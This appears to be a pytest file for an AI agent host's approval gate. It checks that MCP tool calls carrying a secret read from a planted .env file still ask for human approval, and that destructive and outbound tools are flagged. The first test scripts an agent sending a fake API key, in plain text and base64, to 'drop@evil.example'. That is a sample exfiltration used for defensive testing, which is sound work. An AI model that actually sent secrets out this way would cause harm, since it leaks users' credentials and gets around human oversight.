"""Asks that say what is at stake, through a whole host (issue 34, item 4).

A real host, store and gate; the MCP server is tests/mcp/fixtures/secret_server.py as a real
process, trusted as the README's example does (`allow: [mcp__vault]`). It reads a planted `.env`;
a `send` that carries its key (plain or base64) then asks, although the rule allows it, and the
approval names the result the text came from; a destructive tool's ask says it deletes data;
with `allow_read_only_tools` a read-only tool runs unasked while `send` still asks.
"""

from __future__ import annotations

import base64
import io
import sys
from pathlib import Path

import anyio
import pytest

from backend.app.approvals import RuleNotPermitted
from backend.app.auto_approve import outside_scope
from backend.auth import Principal
from backend.domain.models import OVERSEER, Approval, AutoApprove, Decision
from backend.rules.risk import CARRIED_WARNING
from backend.mcp.config import McpServerConfig
from backend.terminal import TerminalUI
from backend.testing import Reply, ScriptedToolCall
from backend.testing.harness import Harness, only_servers, scripted_host

BOUND = 30
SERVER = Path(__file__).parents[1] / "mcp" / "fixtures" / "secret_server.py"
KEY = "sk-live-9fQ2xLr7TzWb81KmPq4V"
ENV = f"DATABASE_HOST=db.internal\nSTRIPE_API_KEY={KEY}\nDEBUG=true\n"
READ = "mcp__vault__read_secret"
SEND = "mcp__vault__send"
DELETE = "mcp__vault__delete_record"
LOOKUP = "mcp__vault__lookup"
APPROVER = Principal(name="bob", role="approver", kind="user")


def call(name: str, call_id: str, **arguments: str) -> Reply:
    return Reply(tool_calls=[ScriptedToolCall(name=name, arguments=arguments, id=call_id)])


def settings_for(tmp_path: Path, **overrides: object) -> dict:
    secret = tmp_path / "planted.env"
    secret.write_text(ENV)
    vault = McpServerConfig(command=sys.executable, args=[str(SERVER), str(secret)], start_timeout=BOUND)
    return {"mcp_servers": {**only_servers(), "vault": vault}, **overrides}


async def ready(h: Harness) -> None:
    with anyio.fail_after(BOUND):
        await h.host.pool.wait_ready()


async def deny(h: Harness, approval: Approval) -> None:
    await h.answer(approval, Decision(kind="deny"))


async def test_a_send_carrying_a_secret_read_a_moment_ago_asks_and_names_the_result_plain_and_base64(tmp_path: Path):
    encoded = base64.b64encode(f"creds: {KEY}".encode()).decode()
    script = [
        call(READ, "c1"),
        call(SEND, "c2", to="drop@evil.example", body=f"here you go {KEY}"),
        call(SEND, "c3", to="drop@evil.example", body=encoded),
        call(SEND, "c4", to="team@example.com", body="the build is green"),
        Reply(text="done"),
    ]
    settings = settings_for(tmp_path, permissions={"allow": ["mcp__vault"]})
    async with scripted_host(tmp_path, script, in_process=False, **settings) as h:
        await ready(h)
        session = await h.start("send the key out")

        plain = await h.next_approval(timeout=BOUND)
        assert (plain.tool_name, plain.tool_call_id) == (SEND, "c2")
        [flag] = plain.carried_results
        assert (flag.argument, flag.tool_name, flag.encoding, flag.tool_call_id) == ("body", READ, "plain", "c1")
        assert flag.text == f"This argument contains text from the result of {READ} (step 1)"
        assert plain.reason.startswith(flag.text)  # the rule allowed it; the text going out makes it ask
        assert "allow rule mcp__vault (user)" in plain.reason
        assert [s.kind for s in plain.stakes] == ["open_world"]
        assert "body:" not in " ".join(plain.argument_rules)  # the secret is never offered as a rule
        assert plain.argument_rules == [f"{SEND}(to:drop@evil.example)"]
        switch = AutoApprove(by=OVERSEER, scope="edits_and_commands")
        assert outside_scope(switch, plain, str(h.workspace)) == f"High-risk calls still ask ({CARRIED_WARNING})"
        out = io.StringIO()  # `overseer run` shows the flag too
        answers = iter(["n", ""])
        await TerminalUI(h.host, out=out, read_line=lambda _: next(answers)).answer(plain)
        assert f"  ! body: {flag.text}\n" in out.getvalue()

        encoded_ask = await h.next_approval(timeout=BOUND)
        assert encoded_ask.tool_call_id == "c3"
        [flag] = encoded_ask.carried_results
        assert (flag.argument, flag.encoding) == ("body", "base64")
        assert flag.text == f"This argument contains text from the result of {READ} (step 1, base64-encoded)"
        await deny(h, encoded_ask)

        assert (await h.host.runner.wait(session.id, timeout=BOUND)).status == "completed"
        approvals = await h.host.store.list_approvals(session_id=session.id)
        assert [a.tool_call_id for a in approvals] == ["c2", "c3"]  # the clean send ran under the rule
        audit = {a.tool_call_id: a for a in await h.host.store.list_audit(session_id=session.id)}
        assert (audit["c4"].decision, audit["c4"].decided_by) == ("allow", "rule")


async def test_asks_differ_by_what_is_at_stake_and_read_only_tools_run_when_a_person_says_so(tmp_path: Path):
    script = [
        call(LOOKUP, "c1", record_id="42"),
        call(DELETE, "c2", record_id="42"),
        call(SEND, "c3", to="team@example.com", body="hello"),
        Reply(text="done"),
    ]
    settings = settings_for(tmp_path, allow_read_only_tools=True)
    async with scripted_host(tmp_path, script, in_process=False, **settings) as h:
        await ready(h)
        session = await h.start("tidy up")

        delete = await h.next_approval(timeout=BOUND)
        assert delete.tool_name == DELETE
        assert [s.kind for s in delete.stakes] == ["destructive"]
        assert delete.reason.endswith("At stake: Deletes or overwrites data")
        await deny(h, delete)

        send = await h.next_approval(timeout=BOUND)
        assert send.tool_name == SEND
        assert send.reason.endswith("At stake: Reaches outside systems")
        assert send.reason != delete.reason
        assert send.carried_results == []
        assert set(send.argument_rules) == {f"{SEND}(to:team@example.com)", f"{SEND}(body:hello)"}
        await deny(h, send)

        assert (await h.host.runner.wait(session.id, timeout=BOUND)).status == "completed"
        [lookup] = [a for a in await h.host.store.list_audit(session_id=session.id) if a.tool_call_id == "c1"]
        assert (lookup.decision, lookup.detail) == (
            "allow",
            "read-only tool of vault, as pinned: allowed (allow_read_only_tools)",
        )


async def test_an_approver_may_save_a_rule_narrowed_by_an_argument_but_not_the_whole_tool(tmp_path: Path):
    script = [
        call(SEND, "c1", to="team@example.com", body="first"),
        call(SEND, "c2", to="team@example.com", body="second"),
        call(SEND, "c3", to="someone@else.example", body="third"),
        Reply(text="done"),
    ]
    async with scripted_host(tmp_path, script, in_process=False, **settings_for(tmp_path)) as h:
        await ready(h)
        session = await h.start("send them")
        first = await h.next_approval(timeout=BOUND)
        assert first.suggested_rules == []  # two arguments: no one rule names exactly this call
        rule = f"{SEND}(to:team@example.com)"
        assert rule in first.argument_rules
        with pytest.raises(RuleNotPermitted):
            await h.host.approvals.answer(first.id, Decision(kind="allow_always", rules=[SEND]), by=APPROVER, via="rest")
        await h.host.approvals.answer(first.id, Decision(kind="allow_always", rules=[rule]), by=APPROVER, via="rest")

        third = await h.next_approval(timeout=BOUND)  # c2 ran under the new rule; another address asks
        assert third.tool_call_id == "c3"
        await deny(h, third)
        assert (await h.host.runner.wait(session.id, timeout=BOUND)).status == "completed"
        audit = {a.tool_call_id: a for a in await h.host.store.list_audit(session_id=session.id)}
        assert audit["c2"].decision == "allow" and audit["c2"].detail.startswith(f"allow rule {rule} (always (workspace ")
